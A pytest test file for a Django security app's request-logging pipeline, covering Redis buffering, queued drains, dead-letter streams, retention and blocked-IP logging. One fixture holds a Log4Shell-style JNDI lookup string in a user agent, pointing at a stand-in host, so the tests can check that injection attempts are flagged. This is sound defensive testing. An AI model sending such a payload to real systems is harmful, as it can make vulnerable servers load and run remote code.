import threading
import time
import uuid
from datetime import timedelta

import msgpack
import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client, override_settings
from django.utils import timezone

from security.blocking.changes import block
from security.models import RequestLog
from security.requestlog import buffer, drain, keys, records, store
from security.requestlog.buffer import log_buffer
from security.requestlog.retention import delete_old_logs
from tests.conftest import publish_records, records_in_stream

pytestmark = pytest.mark.django_db(transaction=True)

DOWN_REDIS = "redis://127.0.0.1:1/0"


def flush_and_drain() -> int:
    log_buffer.flush()
    return drain.drain()


def test_every_request_is_logged_with_ip_time_method_path_status(client: Client):
    before = timezone.now()
    client.get("/?q=1", REMOTE_ADDR="203.0.113.10", HTTP_USER_AGENT="curl/8")
    client.post("/nowhere/", REMOTE_ADDR="203.0.113.11")
    assert flush_and_drain() == 2
    home = RequestLog.objects.get(ip_address="203.0.113.10")
    assert (home.method, home.path, home.status_code) == ("GET", "/", 200)
    assert home.user_agent == "curl/8"
    assert before <= home.timestamp <= timezone.now()
    missing = RequestLog.objects.get(ip_address="203.0.113.11")
    assert (missing.method, missing.path, missing.status_code) == ("POST", "/nowhere/", 404)


@pytest.mark.urls("tests.urls")
def test_failing_view_is_logged_as_500():
    client = Client(raise_request_exception=False)
    response = client.get("/boom/", REMOTE_ADDR="203.0.113.12")
    assert response.status_code == 500
    flush_and_drain()
    assert RequestLog.objects.get(ip_address="203.0.113.12").status_code == 500


def test_blocked_request_is_logged_and_marked(client: Client):
    block(["203.0.113.13"])
    assert client.get("/", REMOTE_ADDR="203.0.113.13").status_code == 403
    flush_and_drain()
    row = RequestLog.objects.get(ip_address="203.0.113.13")
    assert row.status_code == 403
    assert row.blocked


@pytest.mark.urls("tests.urls")
def test_signed_in_user_is_recorded(client: Client):
    user = User.objects.create_user("alice", password="pw-alice-1234")
    client.force_login(user)
    client.get("/who/", REMOTE_ADDR="203.0.113.14")
    flush_and_drain()
    row = RequestLog.objects.get(ip_address="203.0.113.14")
    assert (row.user_id, row.username) == (user.pk, "alice")


def test_giant_non_utf8_and_nul_paths_are_stored_safely(client: Client):
    giant = "/" + "a" * 10_000
    assert client.get(giant, REMOTE_ADDR="203.0.113.15").status_code == 404
    assert client.get("/caf%C3%A9/%ff%fe/", REMOTE_ADDR="203.0.113.16").status_code == 404
    assert client.get("/nul%00byte/", REMOTE_ADDR="203.0.113.17").status_code in (400, 404)
    assert flush_and_drain() == 3
    assert len(RequestLog.objects.get(ip_address="203.0.113.15").path) == 2000
    assert RequestLog.objects.get(ip_address="203.0.113.16").path.startswith("/café/")
    assert "\x00" not in RequestLog.objects.get(ip_address="203.0.113.17").path


def test_hot_path_writes_nothing_to_the_database_or_redis(
    client: Client, redis_client, django_assert_num_queries
):
    client.get("/", REMOTE_ADDR="203.0.113.18")  # loads the blocklist once
    with django_assert_num_queries(0):
        for _ in range(20):
            assert client.get("/", REMOTE_ADDR="203.0.113.18").status_code == 200
    assert log_buffer.pending() >= 20
    assert records_in_stream(redis_client) == 0
    log_buffer.flush()
    assert records_in_stream(redis_client) == 21
    assert redis_client.xlen("security:requestlog") == 1  # one entry per flush


def test_flush_sends_one_batch_and_queues_one_drain(client: Client, redis_client):
    import dramatiq

    for _ in range(5):
        client.get("/", REMOTE_ADDR="203.0.113.19")
    log_buffer.flush()
    for _ in range(5):
        client.get("/", REMOTE_ADDR="203.0.113.19")
    log_buffer.flush()
    assert records_in_stream(redis_client) == 10
    queued = dramatiq.get_broker().queues["default"].qsize()
    assert queued == 1  # the second flush found a drain already pending


def test_a_wake_up_no_drain_answers_is_sent_again_and_a_stale_one_is_dropped(
    client: Client, redis_client
):
    """A wake-up can sit with a worker whose threads wait on a database it cannot reach (or in
    its prefetch): the next flush after a second sends another for an idle worker to take. The
    pile a site collects while every worker is away is dropped unrun, not drained one by one."""
    import dramatiq

    from security import tasks
    from security.requestlog import stream

    broker = dramatiq.get_broker()
    queue = broker.queues["default"]
    client.get("/", REMOTE_ADDR="203.0.113.20")
    log_buffer.flush()
    client.get("/", REMOTE_ADDR="203.0.113.20")
    log_buffer.flush()
    assert queue.qsize() == 1
    time.sleep(stream.DRAIN_PENDING_SECONDS + 0.1)
    client.get("/", REMOTE_ADDR="203.0.113.20")
    log_buffer.flush()
    assert queue.qsize() == 2

    late = time.time() * 1000 - stream.WAKE_UP_MAX_AGE_MS - 1000
    waiting = []
    while queue.qsize():
        waiting.append(dramatiq.Message.decode(queue.get()))
        queue.task_done()
    for message in waiting:
        broker.enqueue(message.copy(message_timestamp=int(late)))
    worker = dramatiq.Worker(broker, worker_timeout=100)
    worker.start()
    try:
        broker.join("default", fail_fast=False)  # a skipped message is dead-lettered
        worker.join()
        assert len(broker.dead_letters_by_queue["default"]) == 2
        assert records_in_stream(redis_client) == 3
        assert not RequestLog.objects.exists()

        stream.request_drain()  # a fresh one is run
        broker.join("default", fail_fast=False)
        worker.join()
    finally:
        worker.stop()
    assert tasks.drain_request_logs.actor_name == keys.DRAIN_ACTOR
    assert RequestLog.objects.filter(ip_address="203.0.113.20").count() == 3


@override_settings(SECURITY_REDIS_URL=DOWN_REDIS)
def test_redis_down_flush_writes_straight_to_the_database(client: Client, caplog):
    for _ in range(5):
        assert client.get("/", REMOTE_ADDR="203.0.113.20").status_code == 200
    log_buffer.flush()
    assert RequestLog.objects.filter(ip_address="203.0.113.20").count() == 5
    assert "Redis unreachable" in caplog.text


def make_record(ip: str = "198.51.100.1") -> records.Record:
    return records.Record(uuid.uuid4().hex, timezone.now().timestamp(), ip, "GET", "/", 200)


def test_redelivered_records_are_stored_once():
    batch = [make_record() for _ in range(10)]
    publish_records(batch)
    publish_records(batch)
    assert drain.drain() == 20
    assert RequestLog.objects.count() == 10


def test_entries_of_earlier_versions_with_dashed_ids_are_stored_counted_and_read_once(
    redis_client,
):
    """Entries written before ids were counters: a list of records, UUID ids in any form
    uuid.UUID reads; one carries the whole user agent storage cut."""
    from security.models import RequestRollup, SuspiciousIP
    from security.tasks import drain_logs

    now = timezone.now().timestamp()
    agent = "Mozilla/5.0 " + "x" * 600 + " ${jndi:ldap://198.51.100.9/a}"
    ids = [str(uuid.uuid4()).upper(), str(uuid.uuid4()), f"{{{uuid.uuid4()}}}"]
    entry = [
        [ids[0], now, "203.0.113.31", "GET", "/", 200, 3, None, "", agent[:512], "", False, "",
         [agent, "", ""]],
        [ids[1], now, "203.0.113.32", "GET", "/about/", 200, 3, None, "", "", "", False, ""],
        [ids[2], now, "203.0.113.33", "GET", "/", 404, 3, None, "", "", "", False],
    ]  # fmt: skip
    for _ in range(2):  # delivered twice
        redis_client.xadd(keys.stream(), {"b": msgpack.packb(entry)})
        drain_logs()
    assert sorted(RequestLog.objects.values_list("record_id", flat=True)) == sorted(
        uuid.UUID(value) for value in ids
    )
    total = RequestRollup.objects.filter(kind="total").values_list("count", flat=True)
    assert sum(total) == 3
    assert set(SuspiciousIP.objects.values_list("ip_address", "reason")) == {
        ("203.0.113.31", "injection")
    }


def test_concurrent_drains_store_each_record_once():
    for _ in range(10):
        publish_records([make_record() for _ in range(100)])

    def drain_in_thread() -> None:
        drain.drain()
        connection.close()

    threads = [threading.Thread(target=drain_in_thread) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert RequestLog.objects.count() == 1000


def test_malformed_entries_go_to_the_dead_letter_stream(redis_client):
    publish_records([make_record()])
    redis_client.xadd("security:requestlog", {"b": b"\xc1 not msgpack"})
    redis_client.xadd("security:requestlog", {"b": msgpack.packb([["too", "short"]])})
    redis_client.xadd(
        "security:requestlog", {"b": msgpack.packb([["not-a-uuid", 1.7e9] + [""] * 10])}
    )
    redis_client.xadd("security:requestlog", {"other": "field"})
    publish_records([make_record()])
    drain.drain()
    assert RequestLog.objects.count() == 2
    assert redis_client.xlen("security:requestlog:dead") == 4
    assert redis_client.xlen("security:requestlog") == 0


def test_entries_of_a_drain_that_died_are_claimed_back(redis_client, settings):
    publish_records([make_record() for _ in range(7)])
    drain.ensure_group(redis_client)
    # A live process's drain holds them (its heartbeat is fresh): it retries them itself.
    redis_client.set(keys.alive("worker-host-77"), 1, px=60_000)
    redis_client.xreadgroup(
        keys.DRAIN_GROUP, "worker-host-77-1", {"security:requestlog": ">"}, count=100
    )
    assert drain.drain() == 0
    settings.SECURITY_LOG_CLAIM_IDLE_SECONDS = 0  # ... unless they waited the claim time
    assert drain.drain() == 7
    assert RequestLog.objects.count() == 7


def test_retention_deletes_only_old_rows():
    now = timezone.now()
    old = [records.to_model(make_record()) for _ in range(25)]
    for row in old:
        row.timestamp = now - timedelta(days=31)
    recent = [records.to_model(make_record()) for _ in range(5)]
    RequestLog.objects.bulk_create(old + recent)
    assert delete_old_logs(days=30, batch_size=10) == 25
    assert RequestLog.objects.count() == 5


def test_retention_actor_follows_the_configured_days(settings):
    from security import tasks

    settings.SECURITY_LOG_RETENTION_DAYS = 7
    rows = [records.to_model(make_record()) for _ in range(3)]
    rows[0].timestamp = timezone.now() - timedelta(days=8)
    rows[1].timestamp = timezone.now() - timedelta(days=6)
    RequestLog.objects.bulk_create(rows)
    tasks.delete_old_request_logs()
    assert RequestLog.objects.count() == 2


@override_settings(SECURITY_REDIS_URL=DOWN_REDIS)
def test_database_briefly_unavailable_during_a_flush_keeps_the_records(client, monkeypatch):
    from django.db import OperationalError

    real_store = store.store_records
    failures = iter([True, True])

    def flaky_store(batch, use_network=True):
        if next(failures, False):
            raise OperationalError("database is briefly unavailable")
        return real_store(batch, use_network)

    monkeypatch.setattr(buffer, "store_records", flaky_store)
    for _ in range(5):
        assert client.get("/", REMOTE_ADDR="203.0.113.21").status_code == 200
    log_buffer.flush()
    log_buffer.flush()
    assert RequestLog.objects.count() == 0
    assert log_buffer.pending() == 5  # kept for the next attempt
    log_buffer.flush()
    assert RequestLog.objects.filter(ip_address="203.0.113.21").count() == 5


def test_a_drain_stores_its_batch_itself_once_the_database_answers(monkeypatch):
    from django.db import OperationalError
    from psycopg.errors import LockNotAvailable

    publish_records([make_record() for _ in range(4)])
    real_store = drain.store_new_rows
    failures = iter([True, True, True])

    def flaky_store(batch, use_network=True):
        if next(failures, False):
            # The database answered: the rows are locked by a drain that was cut off.
            raise OperationalError("lock timeout") from LockNotAvailable("lock timeout")
        return real_store(batch, use_network)

    monkeypatch.setattr(drain, "store_new_rows", flaky_store)
    assert drain.drain() == 4  # the same drain, with the default claim time of a minute
    assert RequestLog.objects.count() == 4
    assert next(failures, "none left") == "none left"


def test_a_user_model_with_a_uuid_key_is_logged_too(rf):
    class UUIDUser:
        pk = uuid.UUID("12345678-1234-5678-1234-567812345678")
        is_authenticated = True

        def get_username(self) -> str:
            return "uuid-user"

    request = rf.get("/", REMOTE_ADDR="203.0.113.23")
    request._cached_user = UUIDUser()
    record = records.build_record(request, 200, 0.0)
    [decoded] = records.decode_batch(records.encode_batch([record]))
    assert (decoded.user_id, decoded.username) == (str(UUIDUser.pk), "uuid-user")


def test_records_built_here_get_whole_distinct_ids_when_decoded(rf):
    built = [records.build_record(rf.get("/", REMOTE_ADDR="203.0.113.24"), 200, 0.0)]
    built.append(records.build_record(rf.get("/", REMOTE_ADDR="203.0.113.24"), 200, 0.0))
    first, second = records.decode_batch(records.encode_batch(built))
    assert first.id != second.id
    assert uuid.UUID(first.id).hex == first.id and uuid.UUID(second.id).hex == second.id


def test_batches_with_a_forged_id_prefix_go_to_the_dead_letter_stream(redis_client):
    record = [7, 1.7e9, "198.51.100.2", "GET", "/", 200]
    for prefix in ("0x12345678abcdef", "1234 5678_abcdef", "12345678", None):
        redis_client.xadd("security:requestlog", {"b": msgpack.packb({"p": prefix, "r": [record]})})
    redis_client.xadd(  # a counter without a prefix to join it to
        "security:requestlog", {"b": msgpack.packb([record])}
    )
    publish_records([make_record()])
    drain.drain()
    assert RequestLog.objects.count() == 1
    assert redis_client.xlen("security:requestlog:dead") == 5
